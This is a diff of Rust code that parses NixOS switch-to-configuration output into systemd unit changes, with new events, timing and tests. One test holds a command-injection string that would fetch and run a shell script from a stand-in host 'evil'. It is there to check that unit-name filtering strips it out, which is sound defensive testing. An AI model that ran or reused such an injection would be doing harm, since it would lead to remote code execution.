@@ -8,7 +8,7 @@ use crate::error::{Error, FailedActivation};
 use crate::host::Host;
 use crate::install;
 use crate::name::ContainerName;
-use crate::observe::{Cancel, Event, Observer, Phase as Progress};
+use crate::observe::{Cancel, Event, Observer, Phase as Progress, UnitChange};
 use crate::power;
 use crate::worker::{Answer, AttachCommand, Exit, Request, Stdio};
 
@@ -37,26 +37,50 @@ pub(crate) fn switch(
     cancel: &Cancel,
 ) -> Result<Option<FailedActivation>, Error> {
     observer.event(Event::Phase(Progress::Activate));
-    let mut units = Vec::new();
+    let begin = Instant::now();
+    let mut failed = Vec::new();
     let exit = run(host, name, cancel, &mut |line| {
-        failed_units(&line, &mut units);
+        let about = units(&line);
         observer.event(Event::Activation { line });
+        let Some((change, names)) = about else { return };
+        if change == UnitChange::Failed {
+            failed.extend(names.iter().take(MOST_UNITS.saturating_sub(failed.len())).cloned());
+        }
+        observer.event(Event::Units { change, names });
     })?;
+    let took = begin.elapsed();
+    tracing::debug!(%name, ?exit, ?took, "switch-to-configuration ended");
     Ok(match exit {
-        Exit::Code(0) => None,
-        Exit::Code(4) => Some(FailedActivation::UnitsFailed { units }),
+        Exit::Code(0) => {
+            observer.event(Event::Done { phase: Progress::Activate, took });
+            None
+        }
+        Exit::Code(4) => Some(FailedActivation::UnitsFailed { units: failed }),
         Exit::Code(100) => Some(FailedActivation::NeedsRestart),
         Exit::Signal(signal) => Some(FailedActivation::Killed { signal }),
         other => Some(FailedActivation::Failed { code: other.code() }),
     })
 }
 
-/// NixOS names them on one line: `warning: the following units failed: a.service, b.service`.
-fn failed_units(line: &str, units: &mut Vec<String>) {
-    if let Some((_, names)) = line.split_once("the following units failed:") {
-        let names = names.split([',', ' ']).filter(|name| is_unit(name)).map(str::to_owned);
-        units.extend(names.take(MOST_UNITS.saturating_sub(units.len())));
-    }
+/// What a line says about units, as NixOS's `switch-to-configuration` says it (both the one in Perl and the one in
+/// Rust): `restarting the following units: a.service, b.service`.
+fn units(line: &str) -> Option<(UnitChange, Vec<String>)> {
+    const FORMS: [(&str, UnitChange); 8] = [
+        ("stopping the following units:", UnitChange::Stopping),
+        ("starting the following units:", UnitChange::Starting),
+        ("NOT restarting the following changed units:", UnitChange::Kept),
+        ("NOT restarting the following units:", UnitChange::Kept),
+        ("restarting the following units:", UnitChange::Restarting),
+        ("reloading the following units:", UnitChange::Reloading),
+        ("the following new units were started:", UnitChange::Started),
+        ("warning: the following units failed:", UnitChange::Failed),
+    ];
+    let line = line.trim();
+    let (names, change) =
+        FORMS.iter().find_map(|(words, change)| line.strip_prefix(words).map(|names| (names, *change)))?;
+    let names: Vec<String> =
+        names.split([',', ' ']).filter(|name| is_unit(name)).take(MOST_UNITS).map(str::to_owned).collect();
+    (!names.is_empty()).then_some((change, names))
 }
 
 /// What systemd lets a unit be called. The guest is hostile, and the name goes into a hint that people copy.
@@ -150,12 +174,27 @@ mod tests {
     use super::*;
 
     #[test]
-    fn failed_units_are_read_as_nixos_names_them() {
-        let mut units = Vec::new();
-        failed_units("starting the following units: a.service", &mut units);
-        failed_units("warning: the following units failed: web.service, db.service", &mut units);
-        failed_units("the following units failed: x;$(curl${IFS}evil|sh) -rf a@b.service", &mut units);
-        assert_eq!(units, ["web.service", "db.service", "a@b.service"]);
+    fn units_are_read_as_nixos_names_them() {
+        let read = |line| units(line).map(|(change, names)| format!("{change}: {}", names.join(" ")));
+        let is = |line, wanted: &str| assert_eq!(read(line).as_deref(), Some(wanted), "{line}");
+        is("stopping the following units: a.service, b.timer", "stopping: a.service b.timer");
+        is("starting the following units: a.service", "starting: a.service");
+        is("restarting the following units: a.service", "restarting: a.service");
+        is("NOT restarting the following changed units: a.service", "not restarting: a.service");
+        is("reloading the following units: dbus.service", "reloading: dbus.service");
+        is("the following new units were started: a.mount", "started: a.mount");
+        is("warning: the following units failed: web.service, db.service", "failed: web.service db.service");
+        assert_eq!(read("activating the configuration..."), None);
+        assert_eq!(read("starting the following units: "), None);
+    }
+
+    #[test]
+    fn a_hostile_guest_names_only_what_systemd_allows() {
+        let (_, names) =
+            units("warning: the following units failed: x;$(curl${IFS}evil|sh) -rf a@b.service").unwrap();
+        assert_eq!(names, ["a@b.service"]);
+        let many = format!("starting the following units: {}", "a.service, ".repeat(1000));
+        assert_eq!(units(&many).unwrap().1.len(), MOST_UNITS);
     }
 
     #[test]
